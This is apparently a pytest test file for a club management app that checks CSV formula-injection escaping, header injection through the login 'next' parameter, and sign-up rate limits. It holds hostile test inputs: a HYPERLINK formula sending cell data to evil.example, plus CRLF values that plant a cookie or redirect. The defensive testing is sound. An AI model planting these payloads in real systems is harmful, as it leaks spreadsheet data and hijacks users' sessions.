"""Abuse: formula injection in CSV exports, sign-up and login limits, header injection through `next`."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from clubapp.models import Referral, Role
from tests import factories
from tests.conftest import TEST_PASSWORD, bearer, log_in, submit

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def club(db):  # type: ignore[no-untyped-def]
    club = factories.club_with(name="BNI Vichy Avenir")
    evil = factories.MembershipFactory(club=club, user=factories.UserFactory(name=EVIL)).user
    honest = factories.MembershipFactory(club=club, user=factories.UserFactory(name="Paul Toiture")).user
    db.session.add(Referral(club=club, giver=evil, receiver=honest, prospect_name="-Prospect", description="x",
                            temperature=3, kind="internal", status="won", amount=Decimal("900"), currency="EUR"))
    db.session.commit()
    return club


@pytest.fixture
def president(club):  # type: ignore[no-untyped-def]
    return next(m.user for m in club.memberships if m.role is Role.PRESIDENT)


def cells(response, delimiter: str = ",") -> list[str]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.data.startswith(b"\xef\xbb\xbf")
    return [cell for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=delimiter)
            for cell in row]


def exports(app, club, president):  # type: ignore[no-untyped-def]
    """Every CSV export, web and API, as an officer sees it."""
    web = app.test_client()
    assert log_in(web, president.email).status_code == 302
    api = app.test_client()
    headers = bearer(president)
    return {
        "palms web": web.get(f"/clubs/{club.id}/reports/palms.csv"),
        "palms api": api.get(f"/api/v1/clubs/{club.id}/reports/palms", headers={**headers, "Accept": "text/csv"}),
        "referrals web": web.get(f"/clubs/{club.id}/referrals.csv"),
        "referrals api": api.get(f"/api/v1/clubs/{club.id}/referrals/export", headers=headers),
    }


def test_every_csv_export_neutralises_a_formula_name(app, club, president):
    for name, response in exports(app, club, president).items():
        found = cells(response)
        assert EVIL not in found, name
        assert "'" + EVIL in found, name
        assert "Paul Toiture" in found, name


def test_amounts_stay_numbers_in_the_referrals_export(app, club, president):
    assert "900.00" in cells(exports(app, club, president)["referrals web"])


# `next` redirects: control characters never reach the Location header

BAD_NEXT = ["/clubs\r\nSet-Cookie: planted=1", "/clubs\nX-Evil: 1", "/clubs\r", "/\t/evil.example", "/\n/evil.example"]


@pytest.mark.parametrize("target", BAD_NEXT)
def test_login_with_a_control_character_in_next_goes_to_the_dashboard(app, db, target):
    user = factories.UserFactory()
    web = app.test_client()
    response = submit(web, "/auth/login", {"email": user.email, "password": TEST_PASSWORD, "next": target})
    assert response.status_code == 302 and response.location.endswith("/dashboard")
    assert "planted" not in response.headers.get("Set-Cookie", "")
    assert web.get("/dashboard").status_code == 200  # signed in


@pytest.mark.parametrize("target", BAD_NEXT[:2])
def test_sign_up_and_language_switch_refuse_such_next_values(app, db, target):
    web = app.test_client()
    response = submit(web, "/auth/signup", {"email": "new.member@example.fr", "password": TEST_PASSWORD,
                                            "name": "Nouveau Membre", "timezone": "Europe/Paris", "locale": "fr",
                                            "next": target})
    assert response.status_code == 302 and response.location.endswith("/dashboard")
    response = submit(web, "/dashboard", {"lang": "en", "next": target}, action="/language")
    assert response.status_code == 302 and response.location.endswith("/dashboard")


# Sign-up: one limit for the web form and the API together

def sign_up_web(app, n: int):  # type: ignore[no-untyped-def]
    return submit(app.test_client(), "/auth/signup", {
        "email": f"web{n}@example.fr", "password": TEST_PASSWORD, "name": f"Web {n}", "timezone": "Europe/Paris",
        "locale": "fr"})


def sign_up_api(app, n: int):  # type: ignore[no-untyped-def]
    return app.test_client().post("/api/v1/users", json={"email": f"api{n}@example.fr", "password": TEST_PASSWORD,
                                                         "name": f"Api {n}"})


def test_sign_up_is_rate_limited_across_web_and_api(database_url, db):
    from tests.conftest import make_app

    limited = make_app(database_url, RATELIMIT_ENABLED=True, SIGNUP_RATE_LIMIT="3 per minute")
    codes = [sign_up_web(limited, 1).status_code, sign_up_api(limited, 2).status_code,
             sign_up_web(limited, 3).status_code]
    assert codes == [302, 201, 302]
    refused = sign_up_api(limited, 4)
    assert refused.status_code == 429 and refused.json["error"]["code"] == "rate_limited"
    assert refused.headers.get("Retry-After", "").isdigit()
    page = sign_up_web(limited, 5)
    assert page.status_code == 429 and "Too many attempts" in page.get_data(as_text=True)
    with limited.app_context():
        from clubapp.models import User

        assert db.session.query(User).filter(User.email.in_(["api4@example.fr", "web5@example.fr"])).count() == 0
